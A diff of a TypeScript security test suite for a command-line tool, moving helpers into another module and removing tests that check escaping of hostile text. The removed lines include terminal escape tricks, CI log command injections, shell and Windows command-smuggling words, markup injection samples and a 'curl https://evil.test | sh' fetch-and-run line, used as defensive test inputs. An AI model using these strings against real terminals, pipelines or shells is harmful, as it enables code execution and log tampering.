@@ -1,90 +1,23 @@
-import { execFileSync } from 'node:child_process';
-import { mkdir, readFile, writeFile } from 'node:fs/promises';
+import { writeFile } from 'node:fs/promises';
 import { join } from 'node:path';
 import { PassThrough } from 'node:stream';
 import { expect } from 'vitest';
 import { diagnosisOf, signatureOf } from '../../scripts/bff/signatures.ts';
 import type { CommandName } from '../../scripts/cli/commands.ts';
-import { execute } from '../../scripts/cli/execute.ts';
 import { configFailure, dockerFailure, upFailure } from '../../scripts/compose/failures.ts';
 import { AppError } from '../../scripts/core/errors.ts';
 import type { CommandResult } from '../../scripts/core/ports.ts';
 import type { ChangeFacts } from '../../scripts/core/result.ts';
-import { quoteWord, renderCommand } from '../../scripts/core/shell.ts';
 import { createFiles } from '../../scripts/platform/files.ts';
 import { createOutput } from '../../scripts/platform/output.ts';
 import { createProcesses } from '../../scripts/platform/processes.ts';
 import { askYesNo } from '../../scripts/platform/prompt.ts';
-import type { Context } from '../../scripts/runbook/job.ts';
-import type { Outcome } from '../../scripts/runbook/recorder.ts';
 import { type Attack, attacks, CANARY } from '../support/attacks.ts';
 import { request } from '../support/builders.ts';
-import { openHere, runHere } from '../support/in-process.ts';
-import { readAllFiles } from '../support/leaks.ts';
+import { runHere } from '../support/in-process.ts';
 import { sendJson, serve } from '../support/server.ts';
 import { createHome } from '../support/stand-in.ts';
-
-const ESC = '\u001b';
-
-/** What others write, by what it does where it is printed as it is. */
-const TRICKS = {
-  'sets the clipboard': `${ESC}]52;c;cHduZWQ=\u0007`,
-  'sets the title, with C1': '\u009d0;title\u009c\u009b31m',
-  'clears the line': `\r${ESC}[2K${ESC}[1A`,
-  'turns the direction of writing': '\u202eexe.\u2066\u2069\u200f\u061c',
-  'hides characters': '\u200bad\u00admin\u2060\ufeff\u3164\u{e0041}',
-  'breaks the line': 'a\nb\r\nc\u2028d\u2029e\u0085f',
-  'has halves of characters': '\ud800x\udc00\uffff',
-  'is a command for GitHub': 'x\n::error::pwned ::stop-commands::x :::add-mask::y',
-  'is an old command for GitHub': 'x ##[error]pwned ###[group]x',
-  'is a command for Azure or TeamCity': "##vso[task.complete result=Failed;]x ##teamcity[buildProblem description='x']",
-  'is a section for GitLab': `section_start:1:mine\r${ESC}[0Ksection_end:1:mine`,
-};
-/** All of them, laid so that a line of any width breaks in front of each. */
-const ALL = Object.values(TRICKS).join(' ');
-
-const HIDDEN =
-  /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u00ad\u061c\u200b-\u200f\u2028-\u202e\u2060-\u2069\u3164\ufeff\uffff\u{e0000}-\u{e0fff}]|\p{Surrogate}/u;
-const COMMAND = /^\s*::|##\w*\[|section_(?:start|end):\d/m;
-
-/** All that was shown: what was printed, and what lies in the folder by now. */
-interface Shown {
-  readonly printed: string;
-  readonly files: Readonly<Record<string, string>>;
-  readonly shown: string;
-}
-
-async function shownIn(home: string, printed: string): Promise<Shown> {
-  const reports = Object.entries(await readAllFiles(home)).filter(([path]) => /reports|summary/.test(path));
-  const files = Object.fromEntries(reports.map(([path, text]) => [path, Buffer.from(text, 'latin1').toString('utf8')]));
-  return { printed, files, shown: [printed, ...Object.values(files)].join('\n') };
-}
-
-/** A run in a folder of its own whose one step does what is given, with hostile texts in it. */
-async function runOf(
-  work: (context: Context, home: string) => Promise<Partial<Outcome>>,
-  args: readonly string[] = [],
-  env: Readonly<Record<string, string>> = {},
-): Promise<Shown> {
-  const home = await createHome();
-  const options = { command: 'iat', cwd: home, env: { IAT_ADMIN_TOKEN: CANARY.admin, ...env } } as const;
-  const { session, read, output } = await openHere(args, options);
-  if (read.kind === 'print') throw new Error('only printed');
-  await execute(session, {
-    ...read,
-    command: 'iat',
-    steps: ['preflight'],
-    sandbox: null,
-    run: async (context) => ({ verdict: 'failed', ...(await work(context, home)) }),
-  });
-  return shownIn(home, output().all);
-}
-
-/** The same, and the step ends with an error. */
-function failing(error: (home: string) => AppError | Promise<AppError>, args: readonly string[] = []) {
-  return () =>
-    runOf(({ recorder }, home) => recorder.step('preflight', async () => Promise.reject(await error(home))), args);
-}
+import { ALL, COMMAND, failing, HIDDEN, runOf, type Shown, shownIn, TRICKS } from './gate-shown.ts';
 
 function saidBy(program: string): CommandResult {
   return { exitCode: 1, stdout: '', stderr: program, startError: null, timedOut: false };
@@ -330,105 +263,4 @@ attacks('what programs, files and people write', [
   row('an option', () => command('health', [`--${ALL}`])),
   row('the value of an option', () => command('health', ['--timeout', ALL])),
   row('a path', () => command('health', ['--collection', ALL])),
-]);
-
-/** A command with a hostile word, run by a real sh in an empty folder: what it was given, and what it made. */
-async function pasted(word: string): Promise<Shown & { readonly words: string[]; readonly made: string }> {
-  const home = join(await createHome(), 'empty');
-  await mkdir(home);
-  const line = renderCommand({ file: 'printf', args: ['%s\\0', word] }, 'linux');
-  const words = execFileSync('/bin/sh', ['-c', line], { cwd: home, encoding: 'utf8' }).split('\0').slice(0, -1);
-  return { words, made: execFileSync('ls', ['-A', home], { encoding: 'utf8' }), printed: line, files: {}, shown: line };
-}
-
-attacks<Awaited<ReturnType<typeof pasted>>>(
-  'words of a command that is there to be copied',
-  [
-    '$(touch made)',
-    '`touch made`',
-    "'; touch made; '",
-    '"; touch made; "',
-    'a\ntouch made\n',
-    '!! && touch made',
-    '$HOME ~ * {a,b}',
-    '-n',
-    "'##[error]",
-  ].map((word) => ({
-    name: JSON.stringify(word),
-    attempt: () => pasted(word),
-    happened: ({ printed }) => expect(printed).toContain(word === '-n' ? word : "'"),
-    outcome: ({ words, made }) => expect({ words, made }).toEqual({ words: [word], made: '' }),
-  })),
-);
-
-attacks('what others write, in the report and the step summary', [
-  {
-    name: 'advice of an IdP with a command in backticks',
-    attempt: failing(() => new AppError('idp-bad-request', 'It says: run `curl https://evil.test | sh` now.')),
-    happened: ({ shown }) => expect(shown).toContain('evil.test'),
-    outcome({ files }) {
-      const [, page = ''] = Object.entries(files).find(([path]) => /-iat\/index\.html$/.test(path)) ?? [];
-      expect(page).toContain('`curl https://evil.test | sh`');
-      expect(page).not.toMatch(/<code[^>]*>curl/);
-    },
-  },
-  ...[
-    'www.evil.test',
-    'https://evil.test',
-    'a@evil.test',
-    '@team',
-    '#1',
-    '<img src=x>',
-    '[x](//evil.test)',
-    '`a` $x$ :tada:',
-    '| a | b |',
-  ].map(
-    (word): Attack<Shown> => ({
-      name: `${word} in the step summary`,
-      async attempt() {
-        const home = await createHome();
-        const path = join(home, 'summary.md');
-        const { files } = await runOf(async () => ({ error: new AppError('internal', `${word} says ${word}`) }), [], {
-          GITHUB_STEP_SUMMARY: path,
-        });
-        const text = await readFile(path, 'utf8');
-        return { printed: text, files, shown: text };
-      },
-      happened: ({ printed }) => expect(printed).toMatch(/^## .*Failed/m),
-      // Without what is escaped and what stands as code, no sign of markup is left.
-      outcome({ printed }) {
-        const [, sentence = ''] = printed.split('\n\n').filter((block) => block.includes(' says '));
-        const bare = (sentence || (printed.split('\n\n')[1] ?? '')).replace(/\\[!-/:-@[-`{-~]|`[^`]*`|&\w+;/g, '');
-        expect(bare).not.toMatch(/www|[@<>`*_[\]|$#~]|:\w+:/);
-      },
-    }),
-  ),
-]);
-
-attacks('GitHub is told what to hide', [
-  {
-    name: 'a stop-commands in between',
-    async attempt() {
-      const { printed, files, shown } = await runOf(
-        async () => ({ error: new AppError('internal', TRICKS['is a command for GitHub']) }),
-        [],
-        { GITHUB_ACTIONS: 'true' },
-      );
-      return { printed, files, shown: shown.replace(/^::add-mask::.*$/gm, '') };
-    },
-    happened: ({ printed }) => expect(printed).toContain('stop-commands'),
-    outcome: ({ printed }) => expect(printed.replace(/^::add-mask::.*$/gm, '')).not.toMatch(COMMAND),
-  },
-]);
-
-attacks('Windows', [
-  {
-    name: 'a word with a second command for cmd or PowerShell',
-    attempt: async () => ({
-      shown: ['a & calc', 'a" & calc & "', '$(calc)', '`$x'].map((word) => quoteWord(word, 'win32')).join('\n'),
-    }),
-    happened: ({ shown }) => expect(shown).toContain('calc'),
-    outcome: ({ shown }) =>
-      expect(shown.split('\n')).toEqual(['"a & calc"', '"a"" & calc & """', '"`$(calc)"', '"```$x"']),
-  },
 ]);
